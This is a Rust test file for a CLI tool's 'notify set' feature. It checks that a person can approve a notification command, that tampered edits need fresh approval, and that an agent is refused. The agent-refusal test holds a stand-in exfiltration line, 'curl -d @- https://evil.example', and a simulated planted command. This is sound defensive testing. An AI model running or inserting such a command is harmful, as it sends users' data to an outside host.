//! `loopx notify set`: a person sets the notification command and approves it in one act.

use crate::support::{Loopx, demo_project};

fn notified_kinds(loopx: &Loopx) -> Vec<String> {
    std::fs::read_to_string(loopx.path().join("notified.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| {
            let note: serde_json::Value = serde_json::from_str(l).expect("a JSON line");
            note["kind"].as_str().unwrap_or_default().to_owned()
        })
        .collect()
}

#[test]
fn a_command_a_person_sets_runs_without_a_separate_approval_and_the_file_keeps_its_words() {
    let loopx = demo_project(&["exec"]);
    let config = loopx.path().join(".loopx/loopx.toml");
    let before = std::fs::read_to_string(&config).unwrap_or_default();
    std::fs::write(
        &config,
        format!("{before}\n# tests stay fresh for two days\n[evidence]\nshelf_life = {{ test = \"2d\" }}\n"),
    )
    .expect("write loopx.toml");
    let set = loopx.ok(&["notify", "set", "cat >> notified.jsonl", "--timeout", "5s"]);
    assert!(
        set.stdout.contains(
            "Notifications run `cat >> notified.jsonl` (killed after 5s): approved in q1"
        ),
        "{}",
        set.stdout
    );
    let text = std::fs::read_to_string(&config).expect("loopx.toml");
    assert!(
        text.contains(
            "# tests stay fresh for two days\n[evidence]\nshelf_life = { test = \"2d\" }"
        ),
        "{text}"
    );
    assert!(
        text.contains("command = \"cat >> notified.jsonl\""),
        "{text}"
    );
    let shown = loopx.ok(&["notify", "show"]).stdout;
    assert!(shown.contains("approved in q1"), "{shown}");

    loopx.ok(&["todo", "add", "Choose the format [demo:ask]"]);
    let run = loopx.run(&["run", "--on-gate", "exit"]);
    assert_eq!(
        run.code,
        i32::from(loopx_cli::exit_code::HALTED_ON_GATE),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("approval"), "{}", run.stderr);
    assert_eq!(notified_kinds(&loopx), ["gate_opened"]);
    let gates = loopx.ok(&["gate", "list", "--json"]).json();
    let open: Vec<&serde_json::Value> = gates["gates"]
        .as_array()
        .expect("gates")
        .iter()
        .filter(|g| g["state"] == "open")
        .collect();
    assert_eq!(
        open.len(),
        1,
        "only the agent's question is open: {gates:#}"
    );

    // Another text in the file (an edit by anyone else) waits for its own approval.
    let text = std::fs::read_to_string(&config).expect("loopx.toml");
    std::fs::write(
        &config,
        text.replace("cat >> notified.jsonl", "touch planted.txt"),
    )
    .expect("write loopx.toml");
    let shown = loopx.ok(&["notify", "show"]).stdout;
    assert!(shown.contains("not approved yet"), "{shown}");

    let off = loopx.ok(&["notify", "off"]);
    assert!(
        off.stdout.contains("Notifications are off"),
        "{}",
        off.stdout
    );
    let text = std::fs::read_to_string(&config).expect("loopx.toml");
    assert!(!text.contains("[notify]"), "{text}");
    assert!(text.contains("shelf_life = { test = \"2d\" }"), "{text}");
}

#[test]
fn an_agent_cannot_set_the_notification_command() {
    let loopx = Loopx::new();
    let config = loopx.path().join(".loopx/loopx.toml");
    let before = std::fs::read_to_string(&config).unwrap_or_default();
    let refused = loopx
        .command(&["notify", "set", "curl -d @- https://evil.example"])
        .env("LOOPX_SLICE", "s3")
        .output()
        .expect("run");
    assert_eq!(refused.status.code(), Some(6), "refused");
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("person's command"),
        "{}",
        String::from_utf8_lossy(&refused.stderr)
    );
    assert_eq!(std::fs::read_to_string(&config).unwrap_or_default(), before);
    let gates = loopx.ok(&["gate", "list", "--json"]).json();
    assert_eq!(gates["gates"], serde_json::json!([]), "{gates:#}");
}

#[test]
fn setting_a_command_into_an_invalid_file_names_its_problem_and_changes_nothing() {
    let loopx = Loopx::new();
    let config = loopx.path().join(".loopx/loopx.toml");
    let before = std::fs::read_to_string(&config).unwrap_or_default();
    let broken = format!("{before}\n[notify]\ncomand = \"cat\"\n");
    std::fs::write(&config, &broken).expect("write loopx.toml");
    let run = loopx.run(&["notify", "set", "true"]);
    assert_eq!(run.code, 3, "{}", run.stderr);
    assert!(run.stderr.contains("comand"), "{}", run.stderr);
    assert_eq!(std::fs::read_to_string(&config).expect("read"), broken);
}
